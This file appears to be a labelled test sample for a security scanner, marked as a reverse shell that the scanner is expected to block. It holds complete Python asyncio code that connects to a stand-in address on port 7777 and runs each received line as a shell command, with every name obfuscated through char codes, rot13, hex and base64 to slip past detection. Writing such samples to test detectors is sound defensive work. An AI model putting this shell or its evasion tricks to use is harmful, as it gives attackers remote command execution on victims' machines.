# expect: BLOCKED category: reverse_shell variant-of: risky/reverse_shell/asyncio_shell.py technique: encode+getattr
asyncio = __import__(''.join(map(chr, [97, 115, 121, 110, 99, 105, 111])))

async def main():
    reader, writer = await getattr(asyncio, __import__('codecs').decode('bcra_pbaarpgvba', 'rot13'))(getattr(bytes, 'xehmorf'[::-1])('3230332e302e3131332e35').decode(), 7777)
    while True:
        line = await getattr(reader, ''.join(['r', 'e', 'a', 'd', 'l', 'i', 'n', 'e']))()
        if not line:
            break
        proc = await getattr(asyncio, bytes.fromhex('6372656174655f73756270726f636573735f7368656c6c').decode())(getattr(line, __import__('base64').b64decode('ZGVjb2Rl').decode())(), stdout=asyncio.subprocess.PIPE)
        out, _ = await getattr(proc, ''.join(map(chr, [99, 111, 109, 109, 117, 110, 105, 99, 97, 116, 101])))()
        getattr(writer, 'etirw'[::-1])(out)
        await getattr(writer, __import__('codecs').decode('qenva', 'rot13'))()
getattr(asyncio, ''.join(['r', 'u', 'n']))(main())
